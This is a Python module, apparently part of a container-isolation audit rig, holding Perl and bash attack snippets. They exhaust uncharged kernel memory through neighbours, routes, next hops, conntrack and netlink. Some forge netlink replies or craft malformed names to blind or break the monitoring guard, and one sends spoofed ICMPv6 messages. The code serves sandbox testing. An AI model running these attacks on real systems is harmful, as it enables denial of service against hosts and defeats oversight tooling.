"""Kernel memory that no memory limit counts: neighbours, routes, next hops, connections, and states behind netlink."""

from rigs.audit.attack import Attack
from rigs.audit.uncharged_memory import ENOUGH, NETLINK, held_in_the_kernel
from rigs.audit.walls import FIXED, GENERIC, KERNEL_ONLY, LENT, PROFILE, without

NEIGHBOURS = f"""
open(my $batch, "|-", "ip -6 -force -batch -");
for my $number (1 .. {ENOUGH} << 11) {{
    printf $batch "neigh add fe80::%x:%x lladdr 02:00:00:00:00:01 dev eth0 nud permanent\n", $number >> 16, $number & 65535;
}}
close $batch;
$held = {ENOUGH} << 20;
"""


ATTACKS = (
    held_in_the_kernel(
        "M22",
        "permanent neighbours, which the machine's limit of neighbours does not count (gc_thresh3)",
        NEIGHBOURS,
    ),
    held_in_the_kernel(
        "M23",
        "answer the guard in the kernel's place (netlink) while next hops are added, which only an answer counts",
        f"""
my $ip = open(my $batch, "|-", "ip -6 -force -batch -");
for my $forger (1 .. 2) {{
    next if fork;
    close $batch;
    socket(my $netlink, 16, 3, 0) && open(my $list, "<", "/proc/net/netlink") or exit;
    my ($done, $end) = (pack("LSSLLL", 20, 3, 2, 0, 0, 0), time + 30);
    while (time < $end) {{  # this file lists the guard's socket with its port, as it is a socket of this network
        sysseek($list, 0, 0);
        sysread($list, my $sockets, 65536);
        for my $port (grep {{ $_ != $ip }} $sockets =~ /^\\S+ 0 +([1-9]\\d*) /mg) {{
            for (1 .. 20) {{ send($netlink, $done, 0x40, pack("SSLL", 16, 0, $port, 0)) or last }}
        }}
        select(undef, undef, undef, 0.0001);
    }}
    exit;
}}
print $batch "nexthop add id $_ dev eth0\n" for 1 .. {ENOUGH} << 11;
close $batch;
$held = ({ENOUGH} << 11) * 448;
""",
        wall="the kernel refuses what others send to a netlink socket that is connected to it",
        control=KERNEL_ONLY,
    ),
    held_in_the_kernel(
        "M24",
        "connections that conntrack tracks",
        f"""
use Socket;
system("ip link set lo up; nft add table ip t; nft add chain ip t c '{{ type filter hook output priority 0; }}';"
    . "nft add rule ip t c ct state new counter");
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 8) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 512) > {ENOUGH} << 20;
    }}
}}
""",
    ),
    Attack(
        id="M29",
        title="thousands of sources of a multicast group, which the kernel compares with one another under a lock",
        wall="the node's /proc has these two settings read-only",
        perl="""
my @set;
for my $name ("core/optmem_max", "ipv4/igmp_max_msf") {
    open(my $file, ">", "/proc/sys/net/$name") or next;
    syswrite($file, "200000") and push @set, $name;
}
@set ? through("set: @set") : refused("$!");
""",
        control=FIXED,
    ),
    held_in_the_kernel(
        "M40",
        "buckets of resilient groups of next hops, 65,535 each",
        """
system("ip nexthop add id 2 via 2001:db8:1::2 dev eth0");
for my $group (100 .. 140) {
    system("ip nexthop add id $group group 2 type resilient buckets 65535") and last;
    $held += 65535 * 32;
}
""",
    ),
    held_in_the_kernel(
        "M45",
        "names of an interface and of a socket that break the lists which the guard reads, and then neighbours",
        r"""
use Socket qw(:all);
system("ip", "link", "add", "a\x1cb\xc2\x85", "type", "veth", "peer", "name", "p0");
socket(my $named, AF_UNIX, SOCK_STREAM, 0);
bind($named, pack_sockaddr_un("\0" . "\n" x 100 . "\xff"));
"""
        + NEIGHBOURS,
    ),
    held_in_the_kernel(
        "M49",
        "IPv4 routes with 2,000 next hops each, of which netlink tells in 8 bytes",
        NETLINK
        + r"""
system("ip link set lo up");
my ($socket, $hops) = (netlink(0), pack("SCCl", 8, 0, 0, 1) x 2000);
$held = 2000 * 150 * many($socket, 400, 2, sub {
    message(24, 0x401, pack("CCCCCCCCL", 2, 32, 0, 0, 254, 3, 253, 1, 0)
        . attribute(1, pack("CCn", 10, 78, $_[0])) . attribute(6, pack("L", 10 + $_[0])) . attribute(9, $hops));
});
""",
    ),
    held_in_the_kernel(
        "M50",
        "next hops with a list of 127 segments each",
        NETLINK
        + r"""
my ($index) = `ip -o link show eth0` =~ /^(\d+)/;
my $segments = pack("lCCCCCCn", 1, 0, 254, 4, 126, 126, 0, 0) . pack("n8", 0x2001, 0xdb8, 0, 0, 0, 0, 0, 9) x 127;
$held = 4200 * many(netlink(0), 30_000, 50, sub {
    message(104, 0x401, pack("CCCCL", 10, 0, 3, 0, 0) . attribute(1, pack("L", 10 + $_[0])) . attribute(5, pack("L", $index))
        . attribute(7, pack("S", 5)) . attribute(8 | 0x8000, attribute(1, $segments)));
});
""",
    ),
    held_in_the_kernel(
        "M56",
        "labels of IPv6 addresses",
        NETLINK
        + r"""
$held = 64 * many(netlink(0), 1_200_000, 500, sub {
    message(72, 0x401, pack("CCCCLL", 10, 0, 128, 0, 0, 0)
        . attribute(1, pack("n6N", 0x2001, 0xdb8, 0, 0, 0, 0, $_[0])) . attribute(2, pack("L", 9)));
});
""",
    ),
    Attack(
        id="M57",
        title="protocols of netlink by which the kernel keeps states of IPsec and more",
        wall="the container's seccomp profile allows five protocols",
        perl="""
my @made = grep { socket(my $netlink, 16, 3, $_) } (6, 10, 11, 21, 22);  # IPsec is the first
@made ? through("protocols @made") : refused("$!");
""",
        control=PROFILE,
    ),
    held_in_the_kernel(
        "M59",
        "routes of MPLS labels, and a table with room for all of them",
        """
if (system("sysctl -qw net.mpls.platform_labels=1048575 2>/dev/null") == 0) {
    open(my $batch, "|-", "ip -f mpls -force -batch - 2>/dev/null");
    for my $label (16 .. 600_000) {
        print $batch "route add $label via inet6 2001:db8:1::2 dev eth0\n" or last;
    }
    close $batch;
    $held = 90 << 20;
}
""",
        behind=(without("MPLS_ROUTING", "MPLS"),),
    ),
    Attack(
        id="M62",
        title="generic netlink, by which the kernel keeps addresses, peers, flows and sessions of many modules",
        wall="a node gets a socket of a network in which it has no rights",
        bash="""
said=$(ip mptcp endpoint add 2001:db8::7 2>&1) && echo THROUGH "$(ip mptcp endpoint show)" || echo "REFUSED $said"
""",
        control=GENERIC,
    ),
    Attack(
        id="M63",
        title="sockets of generic netlink, which are in no list of the node's network, with answers that wait",
        wall="a node has four at once, and little waits in one",
        perl=NETLINK
        + r"""
my (@made, $waits);
my $ask = message(16, 1, pack("CCS", 3, 1, 0) . attribute(2, "nlctrl\0"));  # CTRL_CMD_GETFAMILY: 1.4 KB each
for my $socket (1 .. 40) {
    socket($made[$socket], 16, 3, 16) or last;
    for (1 .. 200) { send($made[$socket], $ask, 0x40) }
}
my $got = grep { defined && fileno $_ } @made;
$got > 8 ? through("$got sockets") : refused("$got sockets, $!");
""",
        control=LENT,
    ),
    held_in_the_kernel(
        "M65",
        "exceptions of IPv6 routes, which messages about a path MTU add (ICMPv6 from the node to itself)",
        r"""
use Socket qw(inet_pton pack_sockaddr_in6);
my ($own) = `ip -6 -o addr show dev eth0 scope global` =~ /inet6 ([0-9a-f:]+)/;
open(my $batch, "|-", "ip -6 -force -batch - 2>/dev/null");
print $batch "route add 3fff:900:$_\::/64 dev eth0\n" for 0 .. 59;
close $batch;
socket(my $raw, 10, 3, 58) or refused("$!");
my ($me, $to) = (inet_pton(10, $own), pack_sockaddr_in6(0, inet_pton(10, $own)));
for my $round (1 .. 6_000) {
    for my $route (0 .. 59) {
        # Packet Too Big about an echo request of the node's own, which it never sent
        my $far = pack("n4", 0x3fff, 0x900, hex $route, 0) . pack("NN", $round * 2654435761 & 0xffffffff, $round);
        my $sent = pack("NnCC", 0x60000000, 8, 58, 64) . $me . $far . pack("CCnnn", 128, 0, 0, 1, 1);
        send($raw, pack("CCnN", 2, 0, 0, 1280) . $sent, 0, $to) and $held += 436;
    }
}
""",
    ),
)
